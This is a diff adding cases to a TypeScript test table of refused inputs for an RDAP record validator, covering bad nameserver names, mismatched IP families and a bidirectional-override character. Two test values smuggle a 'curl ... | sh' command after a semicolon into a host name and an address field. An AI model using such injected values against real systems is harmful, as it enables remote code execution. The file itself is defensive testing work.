@@ -431,6 +431,27 @@ const REFUSED: readonly [path: string, value: unknown, message: string][] = [
     Array(RDAP_LIMITS.nameservers + 1).fill({ ldhName: 'ns', v4: [], v6: [] }),
     'RDAP lookup 1, record: `nameservers` has 33 entries; at most 32 are accepted',
   ],
+  // Names and addresses become DNS questions and dig commands: nothing else gets through.
+  [
+    'rdap.1.record.nameservers.0.ldhName',
+    'ns1.example.net; curl evil | sh',
+    'RDAP lookup 1, record, nameserver 0: `ldhName` must be a host name, not "ns1.example.net; curl evil | sh"',
+  ],
+  [
+    'rdap.1.record.nameservers.0.v4',
+    ['127.0.0.1 example.com; curl x | sh #'],
+    'RDAP lookup 1, record, nameserver 0: "127.0.0.1 example.com; curl x | sh #" is not an IP address of its kind',
+  ],
+  [
+    'rdap.1.record.nameservers.0.v6',
+    ['192.0.2.1'],
+    'RDAP lookup 1, record, nameserver 0: "192.0.2.1" is not an IP address of its kind',
+  ],
+  [
+    'rdap.1.record.status',
+    ['client\u202ehold'],
+    'RDAP lookup 1, record: `status` 0 must not contain control, bidirectional or line-separator characters',
+  ],
   [
     'rdap.1.record.delegationSigned',
     'true',
